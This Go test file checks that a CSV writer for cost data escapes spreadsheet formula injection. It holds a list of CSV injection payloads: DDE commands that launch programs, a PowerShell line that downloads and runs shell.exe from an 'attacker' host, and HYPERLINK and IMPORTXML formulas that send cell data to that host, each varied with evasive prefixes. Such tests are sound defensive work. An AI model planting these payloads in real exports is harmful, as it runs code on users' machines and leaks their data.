package focus

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// payloads are texts that a spreadsheet evaluates, after those collected by
// OWASP (CSV Injection) and PayloadsAllTheThings (CSV Injection), and forms of
// them with full-width signs, spaces, tabs and line breaks in front.
func payloads() (out []string) {
	for _, p := range []string{
		"1+1", "cmd|' /C calc'!A0", "cmd|'/C powershell IEX(wget attacker/shell.exe)'!A1", "HYPERLINK(\"http://attacker?x=\"&A1,\"click\")",
		"IMPORTXML(CONCAT(\"http://attacker?v=\",A1),\"//a\")", "SUM(1+1)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "2+5+cmd|' /C calc'!A0",
		"rundll32|'URL.dll,OpenURL calc.exe'!A", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "IFERROR(1/0,2)", "A1",
	} {
		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "\x00=", " =", "\u00a0=", "\u3000=", "\ufeff=", "'=", "''＝", "=\n\"", "@;"} {
			out = append(out, sign+p)
		}
	}
	return out
}

// evaluates reports whether a spreadsheet may take a cell for a formula. It is
// written apart from startsFormula.
func evaluates(cell string) bool {
	cell = strings.TrimLeft(cell, " \u00a0\u3000\ufeff")
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\x00"} {
		if strings.HasPrefix(cell, sign) {
			return true
		}
	}
	return false
}

// TestFormulas: no payload in any text column is left for a spreadsheet to
// evaluate, and numbers stay numbers.
func TestFormulas(t *testing.T) {
	all := payloads()
	require.GreaterOrEqual(t, len(all), 60)
	var b bytes.Buffer
	w, err := NewWriter(&b, V1_4, CustomColumns(Custom{"x_Note", Text}, Custom{"x_Delta", Decimal}))
	require.NoError(t, err)
	var want []string
	texts := 0
	for _, c := range w.columns {
		if columnTable[c].typ == Text && allowed(c) == nil && c != colBillingCurrency {
			texts++
			for _, p := range all {
				r := fullRow()
				r.Custom = []Value{{Text: p}, {Number: MustNumber("-5.00")}}
				f := reflect.ValueOf(&r).Elem().FieldByName(c.name())
				f.SetString(p)
				require.Empty(t, textProblemOf(c, p), "%s=%q", c.name(), p)
				require.NoError(t, w.Write(&r), "%s=%q", c.name(), p)
				want = append(want, p)
			}
		}
	}
	require.NoError(t, w.Flush())
	require.Len(t, want, texts*len(all))
	rows := readTable(t, b.Bytes())
	for i, row := range rows[1:] {
		for at, cell := range row {
			if columnTable[columnOf(rows[0][at])].typ == Decimal || rows[0][at] == "x_Delta" {
				continue
			}
			require.False(t, evaluates(cell), "%s=%q", rows[0][at], cell)
		}
		n := len(row)
		require.Equal(t, "-5.00", row[n-1])
		require.Equal(t, "'"+strings.ReplaceAll(want[i], "\r\n", "\n"), row[n-2]) // the csv package reads CR LF as LF
	}
	t.Logf("%d payloads, %d text columns, %d rows", len(all), texts, len(want))
}

// fullRow has every text that a row can have at once.
func fullRow() Row {
	r := goodRow()
	r.BilledCost, r.PricingCategory = Int(0), Committed
	r.CommitmentDiscountId, r.CommitmentDiscountName, r.CommitmentDiscountType = "cd-1", "Reserved", "Reservation"
	r.CommitmentDiscountCategory, r.CommitmentDiscountStatus = UsageCommitment, Used
	r.CommitmentDiscountQuantity, r.CommitmentDiscountUnit = r.PricingQuantity, "Card-Hours"
	r.CapacityReservationId, r.CapacityReservationStatus = "cr-1", Used
	r.AllocatedMethodId, r.AllocatedResourceId, r.AllocatedResourceName = "m-1", "ns-a", "ns-a"
	r.ResourceName, r.AvailabilityZone, r.InvoiceDetailId = "vm", "a", "1"
	return r
}

func columnOf(name string) col {
	if c, ok := columnByName[name]; ok {
		return c
	}
	return colTags
}

func textProblemOf(c col, text string) string {
	if p, _ := textProblem(c, text); p != nil {
		return p.id
	}
	return ""
}

func TestAppendCell(t *testing.T) {
	for _, c := range [][2]string{
		{"", ""}, {"a", "a"}, {"a,b", `"a,b"`}, {`say "hi"`, `"say ""hi"""`}, {"=1", "'=1"}, {"-5", "'-5"}, {"'a", "'a"}, {"'=a", "''=a"},
		{"＝1", "'＝1"}, {"\t=1", "\"'\t=1\""}, {" -", "' -"}, {"a\nb", "\"a\nb\""}, {"a;b", `"a;b"`}, {"x=1", "x=1"}, {"\u00a0@", "'\u00a0@"}, {"。=", "。="},
	} {
		require.Equal(t, c[1], string(appendCell(nil, c[0])), "%q", c[0])
	}
}
